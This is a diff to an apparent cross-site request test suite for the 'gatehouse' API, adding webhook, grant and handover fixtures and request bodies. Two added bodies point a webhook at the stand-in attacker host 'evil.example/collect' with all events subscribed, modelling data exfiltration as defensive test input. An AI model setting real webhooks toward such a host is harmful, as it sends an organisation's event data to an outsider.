@@ -3,7 +3,7 @@ import { readdir, readFile } from "node:fs/promises";
 import { dirname, join, relative, sep } from "node:path";
 import { fileURLToPath } from "node:url";
 import { newId } from "@gatehouse/core";
-import { authenticateApiKey, createAgent, createDelegation, db, disconnectDb, issueAgentKey } from "@gatehouse/db";
+import { authenticateApiKey, createAgent, createDelegation, createWebhook, db, disconnectDb, grantFromApproval, issueAgentKey, testWebhook } from "@gatehouse/db";
 import { createTestOrg, type TestOrg } from "@gatehouse/db/testing";
 import { request as apiRequest, type APIRequestContext, type APIResponse } from "@playwright/test";
 import { expect, test } from "./fixtures";
@@ -165,7 +165,17 @@ async function paramsOf(stack: E2EStack, org: TestOrg): Promise<Record<string, s
   const member = await addMember(org, "admin");
   const membership = await db().membership.findFirstOrThrow({ where: { orgId: org.org.id, user: { email: member.email } } });
   const pending = await pendingApproval(stack, org);
+  const { webhook } = await createWebhook({ ctx: org.ctx, input: { url: `http://127.0.0.1:9/xs-${randomBytes(4).toString("hex")}`, events: ["*"] } });
+  const delivery = await testWebhook({ ctx: org.ctx, input: { id: webhook.id } });
+  const ownerKeyCtx = { ...(await authenticateApiKey(org.adminKey.apiKey)), requestId: "cross-site-spec" };
+  const granted = await grantFromApproval({
+    ctx: ownerKeyCtx,
+    input: { approvalId: (await pendingApproval(stack, org)).approvalId, body: { durationSeconds: 600, uses: 1, match: { onlyThis: randomBytes(4).toString("hex") } } },
+  });
   return {
+    webhookId: webhook.id,
+    deliveryId: delivery.id,
+    grantId: granted.grant.id,
     orgSlug: org.org.slug,
     agentId: agent.id,
     approvalId: pending.approvalId,
@@ -219,6 +229,12 @@ function bodyOf(handler: Handler, url: string, f: Fixture): Record<string, unkno
     "/policies/draft/preview": { source, format: "yaml" },
     "/policies/test": { source, format: "yaml" },
     "/policies/simulate": { source, format: "yaml", days: 1 },
+    "/webhooks": { url: "https://evil.example/collect", events: ["*"] },
+    "/webhooks/[webhookId]": { url: "https://evil.example/collect" },
+    "/webhooks/[webhookId]/rotate": { overlapSeconds: 0 },
+    "/integrations/slack": { botToken: f.stack.slack.botToken, signingSecret: f.stack.slack.signingSecret },
+    "/approvals/[approvalId]/grant": { durationSeconds: 600 },
+    "/handover": { toMemberId: f.params.membershipId, until: new Date(Date.now() + 86_400_000).toISOString() },
   };
   if (url.endsWith("/callback/credentials")) return { email: f.org.owner.email, password: f.org.owner.password, callbackUrl: f.stack.webUrl };
   return bodies[route] ?? {};
